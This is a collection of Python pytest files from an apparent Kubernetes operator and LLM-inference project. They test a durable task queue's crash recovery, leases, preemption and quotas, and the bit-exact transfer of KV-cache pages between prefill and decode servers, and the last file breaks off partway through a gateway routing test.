    engine.shutdown()


def test_console_reaches_every_api_family():
    """VERDICT r2 missing #5: every implemented API family must be
    reachable from the single-file console."""
    from kubeoperator_trn.cluster.console import CONSOLE_HTML

    for path in [
        "/api/v1/auth/login",
        "/api/v1/clusters",
        "/api/v1/hosts",
        "/api/v1/credentials",
        "/api/v1/projects",
        "/api/v1/settings",
        "/api/v1/backupaccounts",
        "/restore",
        "/backups",
        "/exec",
        "/timings",
        "/logs",
        "/retry",
        "/upgrade",
        "/nodes",
        "/health",
        "/apps",
        "/api/v1/apps/templates",
        "/api/v1/manifests",
        "/metrics",
    ]:
        assert path in CONSOLE_HTML, f"console does not reach {path}"
