"""Durable task queue (ISSUE 12): crash recovery, leases, priorities,
quotas, preemption, watchdog, and the janitor satellites.

Everything here drives real TaskEngine instances against file or
in-memory stores — no mocking of the queue itself, since the point is
that scheduling state (order, backoff deadlines, lease ownership) lives
in the DB and survives engine death.
"""

import time

import pytest

from kubeoperator_trn.cluster import entities as E
from kubeoperator_trn.cluster.db import DB
from kubeoperator_trn.cluster.runner import FakeRunner, PhaseResult
from kubeoperator_trn.cluster.service import ClusterService
from kubeoperator_trn.cluster.taskengine import TaskEngine
from kubeoperator_trn.exitcodes import resolve_exit_preempted


def _mk_task(db, op="app", playbooks=("p1",), priority=0, tenant="default",
             preemptible=False, max_restarts=None):
    from dataclasses import asdict

    task = asdict(E.Task(cluster_id="none", op=op))
    task["phases"] = [asdict(E.Phase(name=p, playbook=p)) for p in playbooks]
    task["priority"] = priority
    task["tenant"] = tenant
    task["preemptible"] = preemptible
    if max_restarts is not None:
        task["max_restarts"] = max_restarts
    db.put("tasks", task["id"], task, name=f"t-{op}")
    return task


def _poll(db, task_id, want, timeout=15.0):
    deadline = time.time() + timeout
    while time.time() < deadline:
        t = db.get("tasks", task_id)
        if t and t["status"] in (want if isinstance(want, tuple) else (want,)):
            return t
        time.sleep(0.02)
    raise AssertionError(f"task never reached {want}: {db.get('tasks', task_id)}")


def _wait(cond, timeout=10.0, msg="condition"):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if cond():
            return
        time.sleep(0.01)
    raise AssertionError(f"timed out waiting for {msg}")


# -- crash recovery -----------------------------------------------------

def test_recovery_resumes_orphaned_task_with_phase_parity(tmp_path):
    """Kill the engine between phases: a fresh engine's boot scan must
    re-enqueue the task and resume it from the first non-Success phase —
    final phase statuses identical to an uninterrupted run, completed
    phases never re-executed."""
    db = DB(str(tmp_path / "t.db"))
    r1 = FakeRunner(blocking=("ph2",), block_timeout_s=60.0)
    e1 = TaskEngine(db, r1, workers=1, lease_s=0.2)
    task = _mk_task(db, playbooks=("ph1", "ph2", "ph3"))
    e1.enqueue(task["id"])
    _wait(lambda: any(i.playbook == "ph2" for i in r1.invocations),
          msg="ph2 started")
    # "crash": heartbeat dies with shutdown; the worker stays wedged in
    # ph2 (daemon thread) exactly like a process that never returns
    e1.shutdown(timeout_s=0.2)
    time.sleep(0.3)  # let the orphaned lease expire

    r2 = FakeRunner()
    e2 = TaskEngine(db, r2, workers=1, lease_s=5.0)
    assert e2.recovered == [task["id"]]
    t = _poll(db, task["id"], E.T_SUCCESS)
    assert [p["status"] for p in t["phases"]] == [E.T_SUCCESS] * 3
    # resume parity: ph1 completed pre-crash and must NOT re-run
    assert [i.playbook for i in r2.invocations] == ["ph2", "ph3"]
    assert "recovered" in (t.get("message") or "") or t["status"] == E.T_SUCCESS

    # unblock the zombie worker: its phase result must be discarded
    # (lease lost), not clobber the successful run
    r1.interrupt()
    time.sleep(0.3)
    t = db.get("tasks", task["id"])
    assert t["status"] == E.T_SUCCESS
    assert t.get("restarts", 0) == 0
    e2.shutdown()


def test_recovery_preserves_persisted_backoff(tmp_path):
    """A Pending task whose queue row carries a future not_before (the
    persisted restart timer) must come through recovery untouched."""
    db = DB(str(tmp_path / "t.db"))
    task = _mk_task(db)
    not_before = time.time() + 60.0
    db.queue_put(task["id"], not_before=not_before)
    e = TaskEngine(db, FakeRunner(), workers=1)
    assert e.recovered == []
    row = next(r for r in db.queue_rows() if r["task_id"] == task["id"])
    assert row["not_before"] == not_before
    e.shutdown()


def test_recovery_requeues_pending_task_without_row(tmp_path):
    """Pending doc, no queue row (crash between db.put and queue_put):
    recovery re-enqueues it, honoring any restart_not_before stamp."""
    db = DB(str(tmp_path / "t.db"))
    task = _mk_task(db)
    e = TaskEngine(db, FakeRunner(), workers=1)
    assert e.recovered == [task["id"]]
    t = _poll(db, task["id"], E.T_SUCCESS)
    assert t["status"] == E.T_SUCCESS
    e.shutdown()


# -- lease reclaim ------------------------------------------------------

def test_lease_expiry_reclaim_two_engines_racing():
    """Engine A claims and wedges; its lease expires (heartbeat dead);
    engine B reclaims via the normal claim path and finishes.  A's late
    result must be discarded — renewal fails, so A abandons without
    writing and the task keeps B's outcome."""
    db = DB()
    ra = FakeRunner(blocking=("p1",), block_timeout_s=60.0)
    ea = TaskEngine(db, ra, workers=1, lease_s=0.25)
    task = _mk_task(db, playbooks=("p1",))
    ea.enqueue(task["id"])
    _wait(lambda: ra.invocations, msg="A claimed")
    ea.shutdown(timeout_s=0.2)  # stop A's heartbeat; worker stays wedged

    rb = FakeRunner()
    eb = TaskEngine(db, rb, workers=1, lease_s=5.0, poll_s=0.02,
                    recover=False)
    t = _poll(db, task["id"], E.T_SUCCESS, timeout=10.0)
    assert [i.playbook for i in rb.invocations] == ["p1"]

    before = ea.metrics["lease_lost"].value
    ra.interrupt()  # unwedge A: its rc-75 result arrives after the loss
    _wait(lambda: ea.metrics["lease_lost"].value > before,
          msg="A noticed the lost lease")
    t = db.get("tasks", task["id"])
    assert t["status"] == E.T_SUCCESS  # not clobbered, not "restarted"
    assert t.get("restarts", 0) == 0
    eb.shutdown()


# -- restart policy satellites ------------------------------------------

def test_explicit_max_restarts_zero_is_honored(monkeypatch):
    """Regression: task["max_restarts"] = 0 used to fall through `or`
    to the KO_MAX_RESTARTS env default and restart anyway."""
    monkeypatch.setenv("KO_MAX_RESTARTS", "3")
    db = DB()
    runner = FakeRunner(script={"p1": PhaseResult(
        ok=False, rc=resolve_exit_preempted(), summary="preempted")})
    e = TaskEngine(db, runner, workers=1, restart_backoff_s=0.02)
    task = _mk_task(db, max_restarts=0)
    e.enqueue(task["id"])
    t = _poll(db, task["id"], E.T_FAILED)
    assert t.get("restarts", 0) == 0
    assert len(runner.invocations) == 1
    e.shutdown()


def test_restart_backoff_is_persisted_not_a_timer():
    """After a preempt-exit the queue row holds the backoff deadline;
    nothing re-runs before it."""
    db = DB()
    runner = FakeRunner(script={"p1": [
        PhaseResult(ok=False, rc=resolve_exit_preempted(), summary="ev"),
        PhaseResult(ok=True, rc=0)]})
    e = TaskEngine(db, runner, workers=1, restart_backoff_s=0.4)
    task = _mk_task(db)
    e.enqueue(task["id"])
    _wait(lambda: (db.get("tasks", task["id"]) or {}).get("restarts", 0) == 1,
          msg="requeue")
    row = next(r for r in db.queue_rows() if r["task_id"] == task["id"])
    assert row["not_before"] > time.time()
    assert row["lease_owner"] == ""  # released, not leased
    time.sleep(0.15)
    assert len(runner.invocations) == 1  # backoff still pending
    t = _poll(db, task["id"], E.T_SUCCESS)
    assert len(runner.invocations) == 2
    assert t["restarts"] == 1
    e.shutdown()


def test_cancel_during_backoff_removes_queue_row():
    """Cancelling a task parked in restart backoff must drop its queue
    row — the persisted timer must not resurrect a cancelled task."""
    db = DB()
    runner = FakeRunner(script={"app-deploy": PhaseResult(
        ok=False, rc=resolve_exit_preempted(), summary="preempted")})
    engine = TaskEngine(db, runner, workers=1, restart_backoff_s=5.0)
    service = ClusterService(db, engine)
    cluster = {"id": "c1", "name": "c1", "spec": {}, "nodes": [],
               "status": E.ST_RUNNING}
    db.put("clusters", cluster["id"], cluster)
    task = service._make_task(cluster, "app", ["app-deploy"])
    _wait(lambda: (db.get("tasks", task["id"]) or {}).get("restarts", 0) == 1,
          msg="requeue")
    assert service.cancel_task(task["id"]) is not None
    assert all(r["task_id"] != task["id"] for r in db.queue_rows())
    time.sleep(0.3)
    t = db.get("tasks", task["id"])
    assert t["status"] == E.T_CANCELLED
    assert len(runner.invocations) == 1  # never ran again
    engine.shutdown()


# -- priorities / quotas / preemption -----------------------------------

def test_priority_ordering_on_single_worker():
    db = DB()
    runner = FakeRunner(delay_s=0.15)
    e = TaskEngine(db, runner, workers=1, poll_s=0.02)
    blocker = _mk_task(db, playbooks=("blocker",))
    e.enqueue(blocker["id"])
    _wait(lambda: runner.invocations, msg="blocker claimed")
    tasks = {p: _mk_task(db, playbooks=(f"pb{p}",), priority=p)
             for p in (0, 5, 10)}
    for t in tasks.values():
        e.enqueue(t["id"])
    for t in tasks.values():
        _poll(db, t["id"], E.T_SUCCESS)
    order = [i.playbook for i in runner.invocations]
    assert order == ["blocker", "pb10", "pb5", "pb0"]
    e.shutdown()


def test_tenant_quota_queues_never_errors():
    """Two tasks for a quota-1 tenant on a two-worker engine: the second
    waits for the first to finish (the other tenant's task runs meanwhile);
    everything still succeeds — graceful degradation, no rejections."""
    db = DB()
    db.put("quotas", "acme", {"id": "acme", "name": "acme",
                              "tenant": "acme", "limit": 1}, name="acme")
    runner = FakeRunner(delay_s=0.2)
    e = TaskEngine(db, runner, workers=2, poll_s=0.02)
    a1 = _mk_task(db, playbooks=("acme1",), tenant="acme")
    a2 = _mk_task(db, playbooks=("acme2",), tenant="acme")
    other = _mk_task(db, playbooks=("other1",), tenant="other")
    for t in (a1, a2, other):
        e.enqueue(t["id"])
    for t in (a1, a2, other):
        assert _poll(db, t["id"], E.T_SUCCESS)["status"] == E.T_SUCCESS
    order = [i.playbook for i in runner.invocations]
    # acme2 had to wait out acme1 despite a free worker, so it ran last
    assert order.index("acme2") > order.index("other1")
    e.shutdown()


def test_preemption_checkpoint_restart_end_to_end():
    """Single worker: a ready higher-priority task interrupts the
    running preemptible one (checkpoint-exit rc), runs first; the
    preempted task restarts after backoff and completes."""
    db = DB()
    runner = FakeRunner(blocking=("low",), block_timeout_s=30.0)
    e = TaskEngine(db, runner, workers=1, restart_backoff_s=0.1,
                   poll_s=0.02, lease_s=5.0)
    low = _mk_task(db, playbooks=("low",), priority=0, preemptible=True)
    e.enqueue(low["id"])
    _wait(lambda: runner.invocations, msg="low running")
    before = e.metrics["preemptions"].labels(op="app").value
    high = _mk_task(db, playbooks=("high",), priority=10)
    e.enqueue(high["id"])
    t_high = _poll(db, high["id"], E.T_SUCCESS)
    t_low = _poll(db, low["id"], E.T_SUCCESS, timeout=20.0)
    assert t_low["restarts"] == 1
    assert e.metrics["preemptions"].labels(op="app").value == before + 1
    assert (t_high["finished_at"] or 0) <= (t_low["finished_at"] or 1e18)
    e.shutdown()


def test_non_preemptible_task_is_not_preempted():
    db = DB()
    runner = FakeRunner(blocking=("low",), block_timeout_s=1.0)
    e = TaskEngine(db, runner, workers=1, poll_s=0.02, lease_s=5.0)
    low = _mk_task(db, playbooks=("low",), priority=0, preemptible=False)
    e.enqueue(low["id"])
    _wait(lambda: runner.invocations, msg="low running")
    high = _mk_task(db, playbooks=("high",), priority=10)
    e.enqueue(high["id"])
    # low's blocking wait times out (1s) and it succeeds un-preempted
    t_low = _poll(db, low["id"], E.T_SUCCESS)
    assert t_low.get("restarts", 0) == 0
    _poll(db, high["id"], E.T_SUCCESS)
    e.shutdown()


# -- watchdog -----------------------------------------------------------

def test_phase_watchdog_fails_stuck_task(tmp_path):
    db = DB()
    runner = FakeRunner(blocking=("stuck",), block_timeout_s=30.0)
    e = TaskEngine(db, runner, workers=1, lease_s=5.0,
                   phase_timeout_s=0.25, flight_dir=str(tmp_path))
    before = e.metrics["phase_timeouts"].labels(phase="stuck").value
    task = _mk_task(db, playbooks=("stuck",))
    e.enqueue(task["id"])
    t = _poll(db, task["id"], E.T_FAILED)
    assert t.get("watchdog_timeout") == "stuck"
    assert "KO_PHASE_TIMEOUT_S" in t["message"]
    assert e.metrics["phase_timeouts"].labels(phase="stuck").value == \
        before + 1
    # crash flight record written for the postmortem
    _wait(lambda: list(tmp_path.glob("flight_*.json")), msg="flight record")
    # the watchdog interrupt unwedged the runner; its late result is
    # discarded and must not resurrect the task
    time.sleep(0.3)
    assert db.get("tasks", task["id"])["status"] == E.T_FAILED
    e.shutdown()


# -- shutdown / enqueue-refusal -----------------------------------------

def test_shutdown_joins_workers_and_refuses_enqueue():
    db = DB()
    e = TaskEngine(db, FakeRunner(), workers=2)
    task = _mk_task(db)
    e.enqueue(task["id"])
    _poll(db, task["id"], E.T_SUCCESS)
    e.shutdown(timeout_s=5.0)
    assert all(not t.is_alive() for t in e._threads)
    assert not e._monitor_thread.is_alive()
    t2 = _mk_task(db)
    with pytest.raises(RuntimeError):
        e.enqueue(t2["id"])


# -- gauges / janitor satellites ----------------------------------------

def test_queue_depth_gauge_accurate_after_pickup():
    db = DB()
    runner = FakeRunner(delay_s=0.3)
    e = TaskEngine(db, runner, workers=1, poll_s=0.02)
    t1 = _mk_task(db, playbooks=("a",))
    e.enqueue(t1["id"])
    _wait(lambda: runner.invocations, msg="t1 claimed")
    t2 = _mk_task(db, playbooks=("b",))
    e.enqueue(t2["id"])
    # t1 is leased (running) — only t2 counts as queued
    assert e.metrics["queue_depth"].value == 1
    _poll(db, t2["id"], E.T_SUCCESS)
    assert e.metrics["queue_depth"].value == 0
    e.shutdown()


def test_prune_task_logs_keeps_newest_per_task():
    db = DB()
    for i in range(20):
        db.append_log("t1", "p", time.time(), f"line {i}")
    for i in range(3):
        db.append_log("t2", "p", time.time(), f"keep {i}")
    db.prune_task_logs(keep_per_task=5)
    logs1 = db.get_logs("t1")
    assert len(logs1) == 5
    assert logs1[0]["line"] == "line 15"  # newest kept, oldest dropped
    assert len(db.get_logs("t2")) == 3  # under the cap: untouched


def test_event_journal_prunes_task_logs_on_cadence():
    from kubeoperator_trn.cluster.events import SEV_INFO, EventJournal

    db = DB()
    for i in range(10):
        db.append_log("t1", "p", time.time(), f"line {i}")
    j = EventJournal(db, keep=100, keep_task_logs=4)
    j.PRUNE_EVERY = 2
    j.record(SEV_INFO, "health.check.passed", "one")
    assert len(db.get_logs("t1")) == 10  # cadence not reached yet
    j.record(SEV_INFO, "health.check.passed", "two")
    assert len(db.get_logs("t1")) == 4


# -- no in-memory-only scheduling state ---------------------------------

def test_scheduling_state_is_reconstructible_from_db(tmp_path):
    """Acceptance: queue order, backoff deadline, and lease ownership
    all visible in the store with no live engine at all."""
    db = DB(str(tmp_path / "t.db"))
    t_hi = _mk_task(db, priority=9, tenant="acme")
    t_lo = _mk_task(db, priority=1)
    db.queue_put(t_hi["id"], priority=9, tenant="acme")
    db.queue_put(t_lo["id"], priority=1, not_before=time.time() + 30)
    rows = {r["task_id"]: r for r in db.queue_rows()}
    assert rows[t_hi["id"]]["priority"] == 9
    assert rows[t_hi["id"]]["tenant"] == "acme"
    assert rows[t_lo["id"]]["not_before"] > time.time()
    # claim ordering derives purely from the rows
    head = db.queue_head(time.time())
    assert head["task_id"] == t_hi["id"]
    claim = db.queue_claim("owner-a", time.time(), 60.0)
    assert claim["task_id"] == t_hi["id"]
    row = next(r for r in db.queue_rows() if r["task_id"] == t_hi["id"])
    assert row["lease_owner"] == "owner-a"
    assert row["lease_expires"] > time.time()
