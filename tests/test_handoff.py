"""Disaggregated prefill/decode serving (ISSUE 15): KV page transfer,
handoff wire format, scheduler import pipeline, role-aware server
endpoints, gateway disagg routing, and pool-scoped autoscaling.

The contract under test is bit-exactness end to end: pages exported
from one pool and imported into another must reproduce the donor
blocks bit for bit (both dtypes, partial last chunks included), a
disaggregated prefill->wire->decode run must emit token-for-token the
same temp-0 output as a mixed scheduler, and neither pool may leak a
block.  Around that core, the operational surface: double-import
refusal, prefix-cache dedup on import, /drain's 409 while a handoff is
in flight, role-filtered gateway routing with decode-replica affinity,
and autoscaler alerts scoped to one pool.
"""

import dataclasses
import json

import numpy as np
import pytest

from kubeoperator_trn.infer import handoff as H
from kubeoperator_trn.infer.paged_kv import (
    blocks_needed, export_blocks, import_blocks, init_pool, stage_pages)
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.models import llama
from kubeoperator_trn.telemetry import MetricsRegistry

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def _pages(cfg, n_blocks, block_size, seed=0):
    """Random host pages in the pool's exact dtype (via a jnp cast, so
    bfloat16 resolves to ml_dtypes and round-trips bit-exactly)."""
    import jax.numpy as jnp

    rng = np.random.default_rng(seed)
    shape = (cfg.n_layers, n_blocks, block_size, cfg.n_kv_heads,
             cfg.dim // cfg.n_heads)
    k = np.asarray(jnp.asarray(rng.standard_normal(shape),
                               jnp.dtype(cfg.compute_dtype)))
    v = np.asarray(jnp.asarray(rng.standard_normal(shape),
                               jnp.dtype(cfg.compute_dtype)))
    return k, v


def _bits(a):
    return np.ascontiguousarray(a).tobytes()


# ------------------------------------------------- page transfer (pool)

@pytest.mark.parametrize("dtype", ["bfloat16", "float32"])
def test_export_import_roundtrip_across_pools_bit_exact(dtype):
    """Pages written into pool A, exported, imported into pool B at
    different physical ids, and exported again are byte-identical —
    including a partial last transfer chunk (5 blocks, chunk 2)."""
    cfg = dataclasses.replace(CFG, compute_dtype=dtype)
    k_pages, v_pages = _pages(cfg, 5, 8, seed=3)
    pool_a = init_pool(cfg, num_blocks=12, block_size=8)
    pool_b = init_pool(cfg, num_blocks=9, block_size=8)

    ids_a = [3, 5, 7, 2, 9]          # deliberately unordered
    pool_a = import_blocks(pool_a, ids_a, k_pages, v_pages,
                           chunk_blocks=2)
    ek, ev = export_blocks(pool_a, ids_a, chunk_blocks=2)
    assert _bits(ek) == _bits(k_pages) and _bits(ev) == _bits(v_pages)

    ids_b = [1, 2, 3, 4, 5]
    pool_b = import_blocks(pool_b, ids_b, ek, ev, chunk_blocks=2)
    bk, bv = export_blocks(pool_b, ids_b, chunk_blocks=2)
    assert _bits(bk) == _bits(k_pages) and _bits(bv) == _bits(v_pages)


def test_import_validates_geometry_dtype_and_ids():
    pool = init_pool(CFG, num_blocks=6, block_size=8)
    k, v = _pages(CFG, 2, 8)
    with pytest.raises(ValueError):                 # wrong page count
        import_blocks(pool, [1, 2, 3], k, v)
    with pytest.raises(ValueError):                 # dtype mismatch
        import_blocks(pool, [1, 2], k.astype(np.float32),
                      v.astype(np.float32))
    with pytest.raises(ValueError):                 # scratch block 0
        import_blocks(pool, [0, 1], k, v)
    with pytest.raises(ValueError):                 # out of range
        import_blocks(pool, [1, 6], k, v)
    with pytest.raises(ValueError):                 # duplicate id
        import_blocks(pool, [2, 2], k, v)
    with pytest.raises(ValueError):                 # same rules on export
        export_blocks(pool, [0, 1])


def test_staged_import_matches_host_path():
    """stage_pages + import must land the same bits as the plain host
    path, and a staged list from the wrong chunking is refused."""
    k, v = _pages(CFG, 5, 8, seed=11)
    ids = [2, 4, 6, 1, 3]
    host = import_blocks(init_pool(CFG, num_blocks=8, block_size=8),
                         ids, k, v, chunk_blocks=2)
    staged = stage_pages(k, v, chunk_blocks=2)
    via = import_blocks(init_pool(CFG, num_blocks=8, block_size=8),
                        ids, k, v, chunk_blocks=2, staged=staged)
    hk, hv = export_blocks(host, ids, chunk_blocks=2)
    sk, sv = export_blocks(via, ids, chunk_blocks=2)
    assert _bits(hk) == _bits(sk) and _bits(hv) == _bits(sv)
    with pytest.raises(ValueError):
        import_blocks(init_pool(CFG, num_blocks=8, block_size=8),
                      ids, k, v, chunk_blocks=4,
                      staged=stage_pages(k, v, chunk_blocks=2))


# ----------------------------------------------------------- wire format

def test_pack_unpack_roundtrip_and_tamper_detection():
    k, v = _pages(CFG, 3, 8, seed=5)
    meta = {"prompt": [1, 2, 3], "first_token": 9, "handoff_id": "h1",
            "max_new_tokens": 4, "temperature": 0.0, "top_k": 0,
            "seed": 0, "block_size": 8}
    blob = H.pack_handoff(meta, k, v)
    meta2, k2, v2 = H.unpack_handoff(blob)
    assert meta2["prompt"] == [1, 2, 3] and meta2["handoff_id"] == "h1"
    assert k2.dtype == k.dtype and _bits(k2) == _bits(k)
    assert _bits(v2) == _bits(v)
    with pytest.raises(H.HandoffError):
        H.unpack_handoff(blob[:7])                  # short frame
    with pytest.raises(H.HandoffError):
        H.unpack_handoff(blob[:-10])                # truncated pages
    with pytest.raises(H.HandoffError):             # k/v mismatch
        H.pack_handoff(meta, k, v[:, :2])


def test_unpack_rejects_wrong_wire_version():
    k, v = _pages(CFG, 1, 8)
    blob = H.pack_handoff({"prompt": [1]}, k, v)
    import struct

    (hlen,) = struct.unpack(">Q", blob[:8])
    hdr = json.loads(blob[8:8 + hlen])
    hdr["version"] = 99
    raw = json.dumps(hdr).encode()
    forged = struct.pack(">Q", len(raw)) + raw + blob[8 + hlen:]
    with pytest.raises(H.HandoffError):
        H.unpack_handoff(forged)


# ------------------------------------------- scheduler-level handoff

def _mk(params, role, **kw):
    kw.setdefault("slots", 2)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    kw.setdefault("max_seq", 64)
    return ContinuousBatchingScheduler(
        CFG, params, SchedulerConfig(role=role, **kw),
        registry=MetricsRegistry())


def _wire(pre, dec, blobs=None):
    def fn(meta, k_pages, v_pages):
        blob = H.pack_handoff(meta, k_pages, v_pages)
        if blobs is not None:
            blobs.append(len(blob))
        meta2, k2, v2 = H.unpack_handoff(blob)
        req = dec.submit_handoff(meta2, k2, v2)
        req.result(timeout=60.0)
        return list(req.tokens), "test-decode"
    pre.set_handoff(fn)


def _leaked(sched):
    if sched.prefix is not None:
        sched.prefix.clear()
    return sched.alloc.capacity - sched.alloc.num_free


def test_disagg_parity_with_mixed_and_no_leaks(params):
    """The tentpole pin: prefill -> wire -> decode emits exactly the
    temp-0 tokens of a mixed run, with prompt lengths that exercise
    partial last blocks (len % block_size != 0) and zero blocks left
    allocated on any pool afterwards."""
    rng = np.random.default_rng(2)
    prompts = [rng.integers(0, CFG.vocab_size, size=s).astype(np.int32)
               for s in (9, 13, 17, 24)]

    mixed = _mk(params, "mixed")
    mixed.start()
    try:
        want = [mixed.submit(p, max_new_tokens=5).result(timeout=60.0)
                for p in prompts]
    finally:
        mixed.stop()

    pre, dec = _mk(params, "prefill"), _mk(params, "decode")
    blobs = []
    _wire(pre, dec, blobs)
    pre.start(), dec.start()
    try:
        got = [pre.submit(p, max_new_tokens=5).result(timeout=60.0)
               for p in prompts]
    finally:
        pre.stop(), dec.stop()

    assert got == want, "disagg temp-0 output must be bit-identical"
    assert len(blobs) == len(prompts) and all(b > 0 for b in blobs)
    out_ok = pre.hm["total"].labels(direction="out", outcome="ok").value
    in_ok = dec.hm["total"].labels(direction="in", outcome="ok").value
    assert out_ok == in_ok == len(prompts)
    assert _leaked(pre) == 0 and _leaked(dec) == 0 and _leaked(mixed) == 0


def test_handoff_import_dedups_against_prefix_cache(params):
    """A second handoff of an already-imported prompt must incref the
    cached leading blocks instead of re-writing them: the dedup counter
    moves and the answer stays identical."""
    rng = np.random.default_rng(4)
    prompt = rng.integers(0, CFG.vocab_size, size=16).astype(np.int32)

    pre, dec = _mk(params, "prefill"), _mk(params, "decode")
    _wire(pre, dec)
    pre.start(), dec.start()
    try:
        first = pre.submit(prompt, max_new_tokens=4).result(timeout=60.0)
        assert dec.hm["dedup"].value == 0
        second = pre.submit(prompt, max_new_tokens=4).result(timeout=60.0)
    finally:
        pre.stop(), dec.stop()
    assert second == first
    assert dec.hm["dedup"].value > 0, \
        "second import of the same prompt must dedup cached blocks"
    assert _leaked(pre) == 0 and _leaked(dec) == 0


def test_double_import_same_handoff_id_raises(params):
    dec = _mk(params, "decode")
    dec.start()
    try:
        k, v = _pages(CFG, 1, 8)
        meta = {"prompt": [3, 1, 4, 1], "first_token": 2,
                "max_new_tokens": 3, "temperature": 0.0, "top_k": 0,
                "seed": 0, "block_size": 8, "handoff_id": "dup-1"}
        dec.submit_handoff(dict(meta), k.copy(), v.copy()).result(
            timeout=60.0)
        with pytest.raises(ValueError, match="double import"):
            dec.submit_handoff(dict(meta), k.copy(), v.copy())
    finally:
        dec.stop()
    assert _leaked(dec) == 0


def test_prefill_role_refuses_import_and_meta_is_validated(params):
    pre = _mk(params, "prefill")
    k, v = _pages(CFG, 1, 8)
    meta = {"prompt": [1, 2], "first_token": 0, "max_new_tokens": 3,
            "block_size": 8}
    with pytest.raises(ValueError):
        pre.submit_handoff(meta, k, v)
    dec = _mk(params, "decode")
    with pytest.raises(ValueError):                 # block size mismatch
        dec.submit_handoff({**meta, "block_size": 16}, k, v)
    with pytest.raises(ValueError):                 # page count mismatch
        dec.submit_handoff({**meta, "prompt": [1] * 20}, k, v)


# ---------------------------------------------------- server endpoints

def test_server_healthz_role_drain_409_and_decode_guard(monkeypatch,
                                                        params):
    import urllib.error
    import urllib.request

    from kubeoperator_trn.infer.server import InferenceService, make_server

    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=False)
    svc.role = "decode"                  # role-split replica, no sched
    monkeypatch.setattr(svc, "handoff_inflight", lambda: 2)
    server, thread = make_server(svc)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        with urllib.request.urlopen(base + "/healthz", timeout=30) as r:
            h = json.loads(r.read())
        assert h["role"] == "decode" and h["handoff_inflight"] == 2

        # mid-handoff drain must refuse: pages already left the peer
        r = urllib.request.Request(base + "/drain", method="POST")
        with pytest.raises(urllib.error.HTTPError) as ei:
            urllib.request.urlopen(r, timeout=30)
        assert ei.value.code == 409
        assert json.loads(ei.value.read())["handoff_inflight"] == 2
        assert svc.draining is False

        # a decode replica never serves /generate directly
        g = urllib.request.Request(
            base + "/generate",
            data=json.dumps({"prompt_ids": [[1, 2]]}).encode(),
            method="POST")
        with pytest.raises(urllib.error.HTTPError) as ei:
            urllib.request.urlopen(g, timeout=30)
        assert ei.value.code == 503

        # handoff drained -> drain proceeds
        monkeypatch.setattr(svc, "handoff_inflight", lambda: 0)
        r = urllib.request.Request(base + "/drain", method="POST")
        with urllib.request.urlopen(r, timeout=30) as resp:
            assert json.loads(resp.read())["draining"] is True
    finally:
        server.shutdown()


def test_server_kv_handoff_endpoint_end_to_end(monkeypatch, params):
    """POST /kv_handoff into a decode-role server: the blob lands in
    the scheduler's pool and decoding finishes the request."""
    import urllib.error
    import urllib.request

    from kubeoperator_trn.infer.server import InferenceService, make_server

    monkeypatch.setenv("KO_INFER_SLOTS", "2")
    monkeypatch.setenv("KO_INFER_KV_BLOCK", "8")
    monkeypatch.setenv("KO_MAX_SEQ", "64")
    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=True, role="decode")
    try:
        server, thread = make_server(svc)
        thread.start()
        base = f"http://127.0.0.1:{server.server_address[1]}"

        prompt = list(range(1, 13))      # 12 tokens -> 2 blocks of 8
        k, v = _pages(CFG, blocks_needed(len(prompt), 8), 8, seed=9)
        meta = {"prompt": prompt, "first_token": 7, "max_new_tokens": 4,
                "temperature": 0.0, "top_k": 0, "seed": 0,
                "block_size": 8, "handoff_id": "http-1"}
        blob = H.pack_handoff(meta, k, v)
        req = urllib.request.Request(base + "/kv_handoff", data=blob,
                                     method="POST")
        with urllib.request.urlopen(req, timeout=120) as resp:
            out = json.loads(resp.read())
        assert out["tokens"][0] == 7 and len(out["tokens"]) == 4

        # a replayed transfer must not decode twice
        with pytest.raises(urllib.error.HTTPError) as ei:
            urllib.request.urlopen(
                urllib.request.Request(base + "/kv_handoff", data=blob,
                                       method="POST"), timeout=30)
        assert ei.value.code == 400
        server.shutdown()
    finally:
        svc.close()


def test_server_kv_handoff_409_on_prefill_role(monkeypatch, params):
    import urllib.error
    import urllib.request

    from kubeoperator_trn.infer.server import InferenceService, make_server

    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=False)
    svc.role = "prefill"
    server, thread = make_server(svc)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        with pytest.raises(urllib.error.HTTPError) as ei:
            urllib.request.urlopen(
                urllib.request.Request(base + "/kv_handoff", data=b"x",
                                       method="POST"), timeout=30)
        assert ei.value.code == 409
    finally:
        server.shutdown()


# ------------------------------------------------------ gateway routing

def _make_gw(**cfg):
    from kubeoperator_trn.infer.gateway import Gateway, GatewayConfig

    cfg.setdefault("backoff_ms", 0.0)
    cfg.setdefault("hedge_ms", 0.0)
    cfg.setdefault("targets_url", "")
    cfg.setdefault("static_replicas", [])
    cfg.setdefault("slow_start_s", 0.0)
    return Gateway(GatewayConfig(**cfg), registry=MetricsRegistry())


def test_gateway_routes_new_requests_to_prefill_pool_only():
    gw = _make_gw(retries=0)
    gw.add_replica("p1", "http://p1", role="prefill")
    gw.add_replica("d1", "http://d1", role="decode")
    hits = []

    def send(rep, body, timeout_s, trace_id):
        hits.append(rep.name)
        return 200, b'{"tokens": [[1]]}'

    gw._send = send
    for _ in range(4):
        status, _, _ = gw.handle_generate(b"{}", {})
        assert status == 200
    assert hits == ["p1"] * 4, "decode replicas take handoffs, not users"
    assert gw.status()["disagg"] is True

    # knob off: the decode pool rejoins normal routing (and, being
    # idle, the least-loaded picker prefers it)
    gw.cfg.disagg = False
    assert gw.status()["disagg"] is False
    hits.clear()
    for _ in range(4):
        gw.handle_generate(b"{}", {})
    assert "d1" in set(hits)


def test_gateway_disagg_degrades_when_prefill_pool_drains():
    gw = _make_gw(retries=0)
    p = gw.add_replica("p1", "http://p1", role="prefill")
    gw.add_replica("d1", "http://d1", role="decode")
    gw._send = lambda rep, body, t, tid: (200, b"{}")
    p.draining = True
    status, _, extra = gw.handle_generate(b"{}", {})
    assert status == 200 and extra["X-KO-Replica"] == "d1", \
